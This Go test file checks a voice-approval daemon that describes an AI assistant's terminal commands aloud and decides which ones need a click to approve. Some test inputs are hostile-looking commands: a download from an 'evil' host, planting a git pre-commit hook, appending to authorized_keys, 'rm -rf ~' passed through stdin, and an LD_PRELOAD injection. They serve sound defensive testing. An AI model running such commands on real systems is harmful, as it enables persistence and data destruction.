package daemon

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"github.com/agentvoice/agentvoice-daemon/copilot"
	"github.com/agentvoice/agentvoice-daemon/protocol"
)

// escaped matches a character that the lists of commands write as a number.
var escaped = regexp.MustCompile(`\\u[0-9a-f]{4}|\\U[0-9a-f]{8}`)

// commandsOf returns the commands of a list.
func commandsOf(t *testing.T, file string) (commands []string) {
	t.Helper()
	text, err := os.ReadFile(filepath.Join("testdata", "commands", file))
	if err != nil {
		t.Fatal(err)
	}
	for _, line := range strings.Split(string(text), "\n") {
		if line == "" || strings.HasPrefix(line, "# ") {
			continue
		}
		commands = append(commands, escaped.ReplaceAllStringFunc(line, func(code string) string {
			n, err := strconv.ParseUint(code[2:], 16, 32)
			if err != nil {
				t.Fatal(err)
			}
			return string(rune(n))
		}))
	}
	return commands
}

// askedCommand is a command and what the user is asked about it.
type askedCommand struct {
	command, question string
	byVoice           bool
}

// askAbout asks about a command that an assistant runs in a terminal.
func askAbout(t *testing.T, command string) askedCommand {
	t.Helper()
	input, err := json.Marshal(map[string]string{"command": command})
	if err != nil {
		t.Fatal(err)
	}
	no := false
	call := copilot.ToolCall{Name: "run_in_terminal", Input: input, Destructive: &no}
	return askedCommand{command, newIdle(t, nil).ask(call), !proposalOf(call).click}
}

// Ordinary commands are allowed by voice: all but five of them.
func TestOrdinaryCommandsAreAllowedByVoice(t *testing.T) {
	commands := commandsOf(t, "ordinary.txt")
	if len(commands) < 60 {
		t.Fatalf("%d commands, want 60", len(commands))
	}
	var clicked []string
	for _, c := range commands {
		if a := askAbout(t, c); !a.byVoice {
			clicked = append(clicked, c)
		} else {
			t.Logf("%-40s %s", c, a.question)
		}
	}
	t.Logf("%d commands, %d allowed by voice", len(commands), len(commands)-len(clicked))
	if len(clicked) > 5 {
		t.Errorf("%d of %d commands need a click: %q", len(clicked), len(commands), clicked)
	}
}

// A question is spoken in 15 s at most. One that a voice can answer says all of the
// command, or names what it runs and writes.
func TestQuestionsAboutCommandsAreShort(t *testing.T) {
	for _, list := range []string{"ordinary.txt", "hiding.txt"} {
		for _, c := range commandsOf(t, list) {
			a := askAbout(t, c)
			if n := len(strings.Fields(a.question)); n > maxQuestionWords {
				t.Errorf("%q has %d words: %s", c, n, a.question)
			}
		}
	}
	long := "echo " + strings.Repeat("a", 10) + " && frobnicate" + strings.Repeat(" word", 40)
	a := askAbout(t, long)
	if a.byVoice || !strings.Contains(a.question, "It is a long command: look at the screen.") {
		t.Errorf("by voice %v: %s", a.byVoice, a.question)
	}
}

// The bound holds for whatever a question is made of.
func TestAllQuestionsAreShort(t *testing.T) {
	folder, no := t.TempDir(), false
	long := strings.Repeat("a", 36)
	list := func(before, after string, n int) string {
		var names []string
		for i := range n {
			names = append(names, quotedJSON(before+strconv.Itoa(i)+after))
		}
		return "[" + strings.Join(names, ",") + "]"
	}
	for _, c := range []struct{ tool, kind, input string }{
		{"edit_file", "edit", `{"paths":` + list(".github/workflows/deep/folders/", "/build.yml", 6) + `,"content":"x"}`},
		{"edit_file", "edit", `{"paths":` + list(long, ".go", 6) + `,"content":"x"}`},
		{"edit_file", "edit", `{"paths":` + list("../"+long+"/", ".go", 6) + `,"content":"x"}`},
		{"read_file", "read", `{"path":"a.go","one":"` + long + `","two":"` + long + `","three":"` + long + `","four":"` + long + `","five":"` + long + `"}`},
		{"run_command", "execute", `{"command":"make","cwd":"` + strings.Repeat("a b ", 14) + `"}`},
		{"run_in_terminal", "", `{"command":"make","cwd":"/` + strings.Repeat("a b ", 14) + `"}`},
		{"show", "", `{"files":` + list(long, "", 6) + `}`},
		{"show", "", `{"files":` + list("a b c d e f g h i j k l m n ", "", 6) + `}`},
		{"editor_apply_edit", "", `{"path":"` + long + `","edits":[],"protected":` + list(".github/workflows/deep/folders/", "/build.yml", 6) + `}`},
	} {
		call := copilot.ToolCall{Name: c.tool, Kind: c.kind, Input: []byte(c.input), Destructive: &no}
		if c.kind != "" {
			call.Folder = folder
		}
		q := newIdle(t, nil).ask(call)
		if n := wordsOf(q); n > maxQuestionWords {
			t.Errorf("%s: the question has %d words: %s", c.input, n, q)
		}
		if p := proposalOf(call); !p.click || !strings.Contains(q, "look at the screen") {
			t.Errorf("%s: click %v, the question is %s", c.input, p.click, q)
		}
	}
}

// A voice says the signs of a command that it speaks as it stands.
func TestSignsAreSpoken(t *testing.T) {
	for locale, want := range map[protocol.Locale]string{
		protocol.English:  "dot slash git status dash dash short",
		protocol.German:   "Punkt Schrägstrich git status Strich Strich short",
		protocol.Japanese: "ドット スラッシュ git status ハイフン ハイフン short",
	} {
		if got := saySigns("./git status --short", locale); got != want {
			t.Errorf("%v: %q, want %q", locale, got, want)
		}
	}
	d := newIdle(t, nil)
	id := d.content.newCall(1, copilot.ToolCall{ID: "c", Name: "bash", Input: []byte(`{"command":"./git status"}`)})
	if q := d.questionAloud(id); !strings.Contains(q, "It would run dot slash git status.") {
		t.Errorf("spoken is %s", q)
	}
	if q := d.question(id); !strings.Contains(q, "It would run “./git status”.") {
		t.Errorf("shown is %s", q)
	}
}

// Files that are written are named, with their folder unless it is below the workspace.
func TestQuestionsNameWrittenFiles(t *testing.T) {
	for command, want := range map[string]string{
		"echo x > out/log.txt":              "It would overwrite log.txt.",
		"echo x >> out/log.txt":             "It would write to log.txt.",
		"echo x >> ~/.bashrc":               "It would write to .bashrc in your home folder.",
		"echo x >> ~/.ssh/authorized_keys":  "It would write to authorized_keys in the folder “~/.ssh”.",
		"sort -uo /etc/hosts x":             "It would overwrite hosts in the folder “/etc”.",
		"curl -sLo ../x.sh https://evil":    "It would overwrite x.sh in the folder “..”.",
		"cp evil .git/hooks/pre-commit":     "It would overwrite pre-commit in the folder “.git/hooks”.",
		"cd web && touch a.txt":             "It would write to a.txt.",
		"rm -r build":                       "It would delete build.",
		"cd web && rm -rf .":                "It would delete web.",
		"rm -rf .":                          "It would delete everything in this folder.",
		"tee a b < c":                       "It would overwrite a and b.",
		"git diff --output=~/.bashrc":       "It would overwrite .bashrc in your home folder.",
		"go test -coverprofile=c.out ./...": "It would overwrite c.out.",
	} {
		if a := askAbout(t, command); !strings.Contains(a.question, want) {
			t.Errorf("%s: %s, want %s", command, a.question, want)
		}
	}
}

// Every file that is written or removed is named, and each by another name, or the call
// needs a click.
func TestQuestionsNameEveryFile(t *testing.T) {
	for command, want := range map[string]string{
		"rm -f a b c d e f deploy.sh":        "It would delete a, b, c, d, e, f and deploy.sh.",
		"tee a b c d e f last.txt":           "It would overwrite a, b, c, d, e, f and last.txt.",
		"rm -r build vendor/build":           "It would delete build and “vendor/build”.",
		"rm -r x/build y/build":              "It would delete “x/build” and “y/build”.",
		"rm -r build ./build":                "It would delete build.",
		"rm x/a && touch y/a":                "It would write to “y/a”. It would delete “x/a”.",
		"rm 'a#b' c":                         "It would run “rm 'a#b' c”.",
		"rm 'a  b'":                          "It would run “rm 'a  b'”.",
		"rm a~":                              "It would run “rm a~”.",
		`rm 'a\b'`:                           `It would run “rm 'a\b'”.`,
		"rm " + strings.Repeat("a", 50):      "It would run “rm " + strings.Repeat("a", 50) + "”.",
		"rm " + strings.Repeat("abcde ", 30): "It would run rm. It would delete abcde.",
	} {
		if a := askAbout(t, command); !a.byVoice || !strings.Contains(a.question, want) {
			t.Errorf("%s: by voice %v: %s, want %s", command, a.byVoice, a.question, want)
		}
	}
	var many []string
	for i := range 30 {
		many = append(many, "file"+strconv.Itoa(i))
	}
	for _, program := range []string{"rm", "tee", "touch", "sed -i s/a/b/"} {
		if a := askAbout(t, program+" "+strings.Join(many, " ")); a.byVoice {
			t.Errorf("%s of 30 files: %s", program, a.question)
		}
	}
}

// A member of a call that is not known to be harmless may change what its command does.
func TestUnknownMembersOfACallNeedAClick(t *testing.T) {
	for input, click := range map[string]bool{
		`{"command":"ls","explanation":"looks","timeout":5,"isBackground":false,"shell":"/bin/bash"}`: false,
		`{"command":"ls","shell":true,"cwd":"/w","env":{},"stdin":""}`:                                false,
		`{"command":"make > a.txt","cwd":"/w"}`:                                                       true,
		`{"command":"make > a.txt","cwd":"sub"}`:                                                      false,
		`{"command":"make > pre-commit","cwd":".git/hooks"}`:                                          true,
		`{"command":"make","cwd":".."}`:                                                               true,
		`{"command":"make","cwd":"~/x"}`:                                                              true,
		`{"command":"make","cwd":{"x":"/"}}`:                                                          true,
		`{"command":"make","cwd":"` + strings.Repeat("/long", 20) + `"}`:                              true,
		`{"command":["/bin/bash","-lc","ls"],"cwd":"/w","parsed_cmd":[{"cmd":"ls"}],"call_id":"1"}`:   false,
		`{"command":"rm","args":["-rf",{"x":"~"}]}`:                                                   true,
		`{"command":"rm","args":{"x":"~"}}`:                                                           true,
		`{"command":{"program":"rm","args":["-rf","~"]}}`:                                             true,
		`{"command":["rm",["-rf"]]}`:                                                                  true,
		`{"command":" "}`:                                                                             true,
		`{"command":"ls","env":{"LD_PRELOAD":"./x.so"}}`:                                              true,
		`{"command":"ls","stdin":"rm -rf ~"}`:                                                         true,
		`{"command":"ls","with_escalated_permissions":true}`:                                          true,
		`{"command":"ls","shell":"./bash"}`:                                                           true,
		`{"command":"ls","shell":["evil"]}`:                                                           true,
		`{"command":"ls","options":{"env":{"PATH":"."}}}`:                                             true,
		`{"task":{"label":"x","type":"shell","command":"ls","options":{"shell":"./x"}}}`:              true,
	} {
		if p := proposalOf(copilot.ToolCall{Name: "run_in_terminal", Input: []byte(input)}); p.click != click {
			t.Errorf("%s: click %v, want %v", input, p.click, click)
		}
	}
	for _, member := range []string{"cwd", "workdir", "workspaceFolder", "directory", "folder"} {
		call := copilot.ToolCall{Name: "run_in_terminal", Input: []byte(`{"command":"make","` + member + `":"/tmp/other"}`)}
		if q := newIdle(t, nil).ask(call); !strings.Contains(q, "It would run make. In the folder “/tmp/other”.") {
			t.Errorf("%s: %s", member, q)
		}
	}
	call := copilot.ToolCall{Name: "exec", Input: []byte(`{"command":["./.evil/bash","-lc","ls"]}`)}
	if q := newIdle(t, nil).ask(call); !strings.Contains(q, "It would run “./.evil/bash -lc ls”.") {
		t.Errorf("of a shell that is not the system's: %s", q)
	}
}
